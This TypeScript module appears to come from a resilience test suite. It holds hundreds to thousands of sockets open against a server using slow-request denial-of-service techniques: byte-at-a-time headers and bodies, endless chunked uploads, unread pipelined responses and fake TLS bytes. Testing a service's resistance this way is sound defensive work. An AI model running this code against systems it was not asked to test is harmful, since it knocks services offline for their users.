import { connect, type NetConnectOpts, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { apiBase } from '#shared/paths.ts'
import type { Attacker, Tally } from './tally.ts'

type State = {
  /** How many sockets are open at once; a closed one is opened again. */
  count: number
  options?: Partial<NetConnectOpts> | undefined
  /** The first bytes to send. */
  firstBytes?: (attacker: Attacker) => string | Buffer
  /** Half-closes the socket at once: nothing more will be sent. */
  endsAtOnce?: true
  /** Runs for each socket every `tickMs`. */
  tick?: (socket: Socket) => void
}
type HoldOptions = { origin: string; attacker: Attacker; until: number; tally: Tally }

const tickMs = 200
/** Sockets opened in a row before the thread does other work. */
const openedAtOnce = 50
const largest = `${apiBase}/products/getAllProduct`
const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`
const post = (path: string, ...headers: string[]) =>
  [`POST ${apiBase}${path} HTTP/1.1`, 'Host: localhost', ...headers, '', ''].join('\r\n')
const drip = (socket: Socket) => void socket.write('x')
/** Reads one byte at a time, and only on request. */
const byteByByte = { onread: { buffer: new Uint8Array(1), callback: () => false } }

const states = {
  'sockets that never send': { count: 600 },
  'idle sockets by the thousand': { count: 3000, firstBytes: () => get('/healthz') },
  'headers a byte at a time': { count: 500, firstBytes: () => `${get('/').slice(0, -2)}x-a: `, tick: drip },
  'bodies a byte at a time': {
    count: 500,
    firstBytes: () => post('/links/parse', 'content-type: application/json', 'content-length: 1000000'),
    tick: drip,
  },
  'chunked bodies without an end': {
    count: 500,
    firstBytes: () => post('/links/parse', 'content-type: application/json', 'transfer-encoding: chunked'),
    tick: (socket: Socket) => void socket.write('1\r\nx\r\n'),
  },
  'uploads a byte at a time': {
    count: 200,
    firstBytes: ({ token }: Attacker) =>
      post(
        '/qc-photos/uploads',
        `authorization: ${token}`,
        'content-type: multipart/form-data; boundary=x',
        'content-length: 4000000',
      ) +
      '--x\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n',
    tick: drip,
  },
  'pipelined responses that are not read': {
    count: 500,
    firstBytes: () => get(largest).repeat(16),
    options: byteByByte,
  },
  'a thousand requests in one packet': { count: 200, firstBytes: () => get(largest).repeat(1000) },
  'responses read byte by byte': {
    count: 500,
    firstBytes: () => get(largest).repeat(16),
    options: byteByByte,
    tick: (socket: Socket) => void socket.resume(),
  },
  'half-closed sockets': {
    count: 500,
    options: { allowHalfOpen: true },
    firstBytes: () => get(largest).repeat(8),
  },
  'bytes that look like TLS': {
    count: 500,
    firstBytes: () => Buffer.concat([Buffer.from('16030100f5010000f10303', 'hex'), Buffer.alloc(512, 0x5a)]),
  },
  'requests whose response is not awaited': {
    count: 300,
    firstBytes: () => get(largest).repeat(4),
    tick: (socket: Socket) => void socket.destroy(),
  },
} satisfies Record<string, State>
export type StateName = keyof typeof states
// The names are those of the table just above.
export const stateNames = Object.keys(states) as StateName[]

/** Opens sockets, keeps them in a state and replaces closed ones, until the time is over. */
export async function holdSockets(
  name: StateName,
  { origin, attacker, until, tally }: HoldOptions,
): Promise<void> {
  const { count, firstBytes, options, endsAtOnce, tick }: State = states[name]
  const { hostname, port } = new URL(origin)
  const open = new Set<Socket>()

  function openOne(): void {
    const socket = connect({ ...options, host: hostname, port: Number(port), localAddress: attacker.from })
    open.add(socket)
    tally.sent += 1
    socket.on('error', () => {}) // connections that the site closes are counted below
    if (!options?.onread) socket.on('data', () => {})
    socket.once('close', () => {
      if (open.delete(socket) && performance.now() < until) tally.closed += 1
    })
    const first = firstBytes?.(attacker)
    if (first) socket.write(first)
    if (endsAtOnce) socket.end()
  }

  while (performance.now() < until) {
    for (let opened = 0; open.size < count && opened < openedAtOnce; opened += 1) openOne()
    await delay(open.size < count ? 1 : tickMs)
    if (!tick || open.size < count / 2) continue
    for (const socket of open) if (socket.writable || socket.readable) tick(socket)
  }
}
